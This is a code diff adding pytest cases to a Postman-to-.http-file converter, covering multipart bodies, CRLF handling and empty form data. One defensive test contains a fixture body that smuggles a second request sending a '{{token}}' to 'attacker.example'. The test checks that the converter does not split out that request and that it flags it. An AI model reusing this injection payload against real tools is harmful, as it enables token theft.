@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import base64
 import json
+from pathlib import Path
 
 import pytest
 from hypothesis import given, settings
@@ -11,7 +12,7 @@ from hypothesis import strategies as st
 
 from app.core.formats.errors import FormatError
 from app.core.formats.http_file import parse_http_file, render_http_file
-from app.core.formats.postman import parse_postman, postman_to_http_file
+from app.core.formats.postman import FORM_BOUNDARY, parse_postman, postman_to_http_file
 
 COLLECTION = {
     "info": {"_postman_id": "7c1d", "name": "Orders API",
@@ -118,3 +119,42 @@ def test_garbage_raises_only_format_error(data: str | bytes) -> None:
         postman_to_http_file(col)
     except FormatError:
         pass
+
+
+# ---------------------------------------------------------------- shapes Postman really writes
+
+SUPPORT = Path(__file__).parent / "fixtures" / "support_cases.postman_collection.json"
+
+
+def test_formdata_with_no_fields_is_no_body_and_no_multipart_type() -> None:
+    col = parse_postman(SUPPORT.read_bytes())
+    empty = col.items[0]
+    assert empty.method == "GET" and empty.body is None and empty.content_type is None
+    hf = postman_to_http_file(col)
+    assert not any(k.lower() == "content-type" for k, _ in hf.requests[0].headers)
+    assert parse_postman(json.dumps({"info": {}, "item": [{"name": "u", "request": {
+        "url": "https://h", "body": {"mode": "urlencoded", "urlencoded": []}}}]})).items[0].body is None
+
+
+def test_multipart_parts_are_joined_with_crlf_as_on_the_wire() -> None:
+    upload = parse_postman(SUPPORT.read_bytes()).items[1]
+    b = FORM_BOUNDARY
+    assert upload.body == (f'--{b}\r\nContent-Disposition: form-data; name="note"\r\n\r\nhello\r\n'
+                           f'--{b}\r\nContent-Disposition: form-data; name="kind"\r\n\r\ninvoice\r\n--{b}--\r\n')
+
+
+def test_bodies_keep_cr_and_trailing_newline_through_the_http_file() -> None:
+    hf = postman_to_http_file(parse_postman(SUPPORT.read_bytes()))
+    back = parse_http_file(render_http_file(hf))
+    assert [r.body for r in back.requests] == [r.body for r in hf.requests]
+    assert back.requests[2].body == "line one\r\nline two\r\n"
+
+
+def test_a_body_with_a_separator_stays_one_request_and_is_noted() -> None:
+    hf = postman_to_http_file(parse_postman(SUPPORT.read_bytes()))
+    text = render_http_file(hf)
+    back = parse_http_file(text)
+    assert len(back.requests) == 4
+    assert "attacker.example" not in "".join(r.url for r in back.requests)
+    assert back.requests[3].body == "harmless text\n###\nGET https://attacker.example/collect?t={{token}}\n"
+    assert any("Body that looks like a second request" in n and "###" in n for n in hf.notes)
